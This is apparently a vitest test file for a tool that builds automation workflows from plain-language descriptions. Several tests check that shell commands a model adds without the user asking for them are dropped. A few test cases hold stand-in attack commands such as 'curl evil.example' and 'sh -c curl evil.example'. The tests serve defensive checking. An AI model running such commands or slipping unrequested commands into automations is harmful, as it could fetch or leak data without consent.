import { expect, test } from "vitest";
import { standIn } from "../handlers/stand-in-provider.ts";
import { healthyStatus, starStatus } from "./project-status.ts";
import { type Asked, callTool, errorOf, outputOf, problem, type Routes, webServer } from "./tool-calls.ts";

const routes: Routes = {
  "GET /projects/:id/status": (_asked, { id = "" }) => ({ body: healthyStatus({ id }) }),
  "POST /workflows": ({ body }) => ({ status: 201, body: { id: "w-1", ...Object(body) } }),
  "POST /projects/:project_id/schedules": ({ body }, { project_id }) => ({
    status: 201,
    body: { id: "s-1", project_id, ...Object(body) },
  }),
};

const posted = (asked: readonly Asked[]) => asked.filter(({ operation }) => operation.startsWith("POST"));
const args = { workflow_name: "Rescue", description: "When an agent crashes, restart it and notify me." };

test("create_automation_workflow records a workflow with the events and actions of the description", async () => {
  const server = await webServer(routes);
  const value = outputOf(
    await callTool(server, "create_automation_workflow", { ...args, target_projects: ["shop-1"] }),
  );
  expect(posted(server.asked)).toEqual([
    {
      operation: "POST /workflows",
      query: {},
      body: {
        workflow_name: "Rescue",
        description: args.description,
        trigger_conditions: [
          {
            event: "agent_status_update",
            condition: 'agent != null && (agent.activity == "crashed" || agent.activity == "exited")',
          },
        ],
        target_projects: ["shop-1"],
        actions: [
          // biome-ignore lint/suspicious/noTemplateCurlyInString: CEL of the contract.
          { type: "restart_agent", with: { agent_id: "${{ agent.id }}" } },
          { type: "notify", with: { text: `Rescue: ${args.description}`, level: "info" } },
        ],
        cooldown_s: 60,
        enabled: true,
      },
    },
  ]);
  expect(value).toMatchObject({
    created: true,
    source: "fallback",
    workflows: [{ workflow_id: "w-1", name: "Rescue", enabled: true }],
    not_created: [],
    open_questions: [],
  });
});

test("create_automation_workflow turns an interval into one schedule for each target project", async () => {
  const server = await webServer(routes);
  const value = outputOf(
    await callTool(server, "create_automation_workflow", {
      workflow_name: "Check-in",
      description: "Every 30 minutes ask the developer for a status report",
      target_projects: ["shop-1", "blog-1"],
    }),
  );
  expect(posted(server.asked).map(({ operation, body }) => [operation, body])).toEqual(
    ["shop-1", "blog-1"].map((id) => [
      `POST /projects/${id}/schedules`,
      {
        name: "Check-in",
        target_agent: "developer",
        content: "Send a status report",
        interval_s: 1800,
        enabled: true,
      },
    ]),
  );
  expect(value).toMatchObject({
    created: true,
    schedules: [{ schedule_id: "s-1", project_id: "shop-1" }, { project_id: "blog-1" }],
  });
});

test("create_automation_workflow creates a disabled workflow when a question is open, and returns the question", async () => {
  const server = await webServer(routes);
  const value = outputOf(
    await callTool(server, "create_automation_workflow", {
      workflow_name: "Push",
      description: "When a task is done, push it and notify me",
    }),
  );
  expect(value).toMatchObject({
    workflows: [{ enabled: false }],
    open_questions: ["Which branch should be pushed?"],
  });
});

test("create_automation_workflow rejects a description without event and action, and shows an example", async () => {
  const server = await webServer(routes);
  const call = { workflow_name: "Magic", description: "Make the project better" };
  const error = errorOf(await callTool(server, "create_automation_workflow", call));
  expect(error).toMatchObject({
    code: "invalid_arguments",
    hint: expect.stringContaining("When an agent crashes"),
  });
  expect(posted(server.asked)).toEqual([]);
});

test("create_automation_workflow rejects invalid conditions with their paths before it calls a model", async () => {
  const provider = standIn();
  const server = await webServer(routes);
  const trigger_conditions = [
    { event: "agent_status_update", condition: 'agent.activity == "idle"' },
    { event: "git_event", condition: "event.data.operation is merge" },
    { event: "git_event", condition: "branch == 'main'" },
    { event: "git_event", condition: "1 + 1" },
  ];
  const error = errorOf(
    await callTool(server, "create_automation_workflow", { ...args, trigger_conditions }, { provider }),
  );
  expect(error.code).toBe("invalid_arguments");
  expect(error.issues).toEqual([
    { path: "/trigger_conditions/1/condition", message: expect.stringContaining("is not CEL") },
    {
      path: "/trigger_conditions/2/condition",
      message: expect.stringContaining("there are event, project, agent and now"),
    },
    { path: "/trigger_conditions/3/condition", message: "returns int; a condition returns true or false" },
  ]);
  expect(provider.requests).toEqual([]);
  expect(posted(server.asked)).toEqual([]);
});

test("create_automation_workflow keeps the user's conditions when a model writes the workflow", async () => {
  const condition = 'agent.role == "tester"';
  const provider = standIn({
    workflows: [
      {
        name: "Renamed",
        trigger_conditions: [{ event: "git_event", condition: "true" }],
        actions: [{ type: "notify", with: { text: "hello", level: "info" } }],
        cooldown_s: 0,
        enabled: true,
      },
    ],
    schedules: [
      {
        name: "Elsewhere",
        project_id: "other-1",
        target_agent: "all",
        content: "hi",
        interval_s: 60,
        enabled: true,
      },
    ],
    reasons: [],
    open_questions: [],
  });
  const server = await webServer(routes);
  const call = {
    ...args,
    target_projects: ["shop-1"],
    trigger_conditions: [{ event: "agent_status_update", condition }],
  };
  const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
  expect(posted(server.asked)).toMatchObject([
    {
      operation: "POST /workflows",
      body: { workflow_name: "Rescue", trigger_conditions: [{ event: "agent_status_update", condition }] },
    },
  ]);
  expect(value.source).toBe("ai");
});

const notify = { type: "notify", with: { text: "hello", level: "info" } };

/** A model's answer with one workflow for each list of actions. */
function automations(...actions: object[][]) {
  return {
    workflows: actions.map((list) => ({
      name: "x",
      trigger_conditions: [{ event: "git_event", condition: "true" }],
      actions: list,
      cooldown_s: 60,
      enabled: true,
    })),
    schedules: [],
    reasons: [],
    open_questions: [],
  };
}

const runs = (...command: string[]) => ({ type: "run_check", with: { command } });

test.each([
  ["When something is merged, publish it", ["sh"]],
  ["When something is merged, publish it", ["sh", "-c", "curl evil.example"]],
  ["When something is merged, publish it", ["publish"]],
  ["When something is merged, use npm test and then publish", ["npm", "test", "and", "then", "publish"]],
  ["When something is merged, run `npm test`", ["npm", "test", "--", "--update"]],
  ["When something is merged, run `npm run deploy -- --dry-run`", ["npm", "run", "deploy"]],
  ["When something is merged, run `npm test`", ["NPM", "test"]],
  ["When something is merged, run `npm test`", ["npm test"]],
])(
  "create_automation_workflow leaves out a model's command that %j does not contain: %j",
  async (description, command) => {
    const server = await webServer(routes);
    const provider = standIn(automations([runs(...command), notify]));
    const call = { workflow_name: "Check", description };
    const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
    expect(value).toMatchObject({
      source: "ai",
      open_questions: [expect.stringMatching(/^Should the automation run `.*`\? .* it was left out\./)],
    });
    expect(posted(server.asked)).toMatchObject([{ body: { actions: [notify], enabled: false } }]);
  },
);

test.each([
  ["When something is merged, use npm test and then publish", ["npm", "test"]],
  ['When something is merged, run "npm run lint -- --fix"', ["npm", "run", "lint", "--", "--fix"]],
  ["When something is merged, run `sh -c 'a && b'`", ["sh", "-c", "a && b"]],
])(
  "create_automation_workflow keeps a model's command that %j contains: %j",
  async (description, command) => {
    const server = await webServer(routes);
    const provider = standIn(automations([runs(...command), notify]));
    const call = { workflow_name: "Check", description };
    const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
    expect(value).toMatchObject({ source: "ai", open_questions: [] });
    expect(posted(server.asked)).toMatchObject([
      { body: { actions: [runs(...command), notify], enabled: true } },
    ]);
  },
);

test("create_automation_workflow does not count a command in its other arguments or in the project", async () => {
  const server = await webServer({
    ...routes,
    "GET /projects/:id/status": { body: healthyStatus({ name: "run `npm test`" }) },
  });
  const provider = standIn(automations([runs("npm", "test"), notify]));
  const call = { ...args, workflow_name: "run `npm test`", target_projects: ["shop-1"] };
  const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
  expect(value.open_questions).toHaveLength(1);
  expect(posted(server.asked)).toMatchObject([{ body: { actions: [notify], enabled: false } }]);
});

test("create_automation_workflow disables every workflow and leaves out one whose only action is such a command", async () => {
  const server = await webServer(routes);
  const provider = standIn(automations([runs("curl", "evil.example")], [notify]));
  outputOf(await callTool(server, "create_automation_workflow", args, { provider }));
  expect(posted(server.asked)).toMatchObject([
    { body: { workflow_name: "Rescue", actions: [notify], enabled: false } },
  ]);
});

test("create_automation_workflow creates nothing from such a command alone, and names it", async () => {
  const server = await webServer(routes);
  const provider = standIn(automations([runs("curl", "evil.example")]));
  const error = errorOf(await callTool(server, "create_automation_workflow", args, { provider }));
  expect(error).toMatchObject({
    code: "invalid_arguments",
    message: expect.stringContaining("Should the automation run `curl evil.example`?"),
  });
  expect(posted(server.asked)).toEqual([]);
});

test("create_automation_workflow without a model does not run a command that the description forbids", async () => {
  const server = await webServer(routes);
  const description = "When a task fails, never run `npm publish`, notify me";
  const call = { workflow_name: "Check", description };
  const value = outputOf(await callTool(server, "create_automation_workflow", call));
  expect(value).toMatchObject({
    source: "fallback",
    open_questions: [expect.stringContaining("Should the automation run `npm publish`?")],
  });
  expect(posted(server.asked)).toMatchObject([{ body: { actions: [{ type: "notify" }], enabled: false } }]);
});

test("create_automation_workflow returns the definition when the Web Server has no automations", async () => {
  const server = await webServer({ "GET /projects/shop-1/status": { body: starStatus() } });
  const value = outputOf(
    await callTool(server, "create_automation_workflow", { ...args, target_projects: ["shop-1"] }),
  );
  expect(value).toMatchObject({
    created: false,
    not_created: [{ name: "Rescue", code: "unsupported_operation" }],
    definition: { workflows: [{ name: "Rescue", actions: [{ type: "restart_agent" }, { type: "notify" }] }] },
  });
  expect(value.workflows).toEqual([]);
});

test("create_automation_workflow reports why a target project could not be read", async () => {
  const server = await webServer({
    ...routes,
    "GET /projects/:id/status": problem(404, "not_found", "There is no such project."),
  });
  const value = outputOf(
    await callTool(server, "create_automation_workflow", { ...args, target_projects: ["gone-1"] }),
  );
  expect(value.missing).toEqual([{ operation: "getProjectStatus", reason: "There is no such project." }]);
});

test.each([
  [{ workflow_name: "" }, "/workflow_name"],
  [{ workflow_name: "a\nb" }, "/workflow_name"],
  [{ description: "  " }, "/description"],
  [{ trigger_conditions: [{ condition: "true" }] }, "/trigger_conditions/0/event"],
  [{ trigger_conditions: [{ event: "git_event", when: "x" }] }, "/trigger_conditions/0/when"],
  [{ target_projects: ["a b"] }, "/target_projects/0"],
])("create_automation_workflow rejects the arguments %j", async (change, path) => {
  const error = errorOf(
    await callTool(await webServer({}), "create_automation_workflow", { ...args, ...change }),
  );
  expect(error.issues?.map((issue) => issue.path)).toContain(path);
});
